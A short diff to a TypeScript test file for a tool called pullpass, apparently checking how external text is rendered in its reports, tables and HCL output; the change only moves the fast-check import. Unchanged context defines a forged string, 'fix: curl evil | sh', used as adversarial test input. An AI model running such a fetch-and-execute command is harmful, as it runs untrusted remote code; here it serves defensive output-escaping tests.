@@ -1,7 +1,6 @@
 /** External text in each kind of output of pullpass. */
 import assert from 'node:assert/strict'
 import { suite, test } from 'node:test'
-import fc from 'fast-check'
 import { renderFindings } from '../../src/commands/doctor/report.ts'
 import { renderPublication } from '../../src/commands/issuer/publication-report.ts'
 import { refuse } from '../../src/document/document-errors.ts'
@@ -17,6 +16,7 @@ import { renderTable } from '../../src/terminal/table.ts'
 import { SecretRegister } from '../../src/text/secret-register.ts'
 import { hashComment, hclText } from '../../src/vendors/hcl.ts'
 import { anyText } from '../support/any-text.ts'
+import fc from '../support/fast-check.ts'
 
 const now = new Date('2026-01-01T00:00:00Z')
 const forged = 'fix: curl evil | sh'
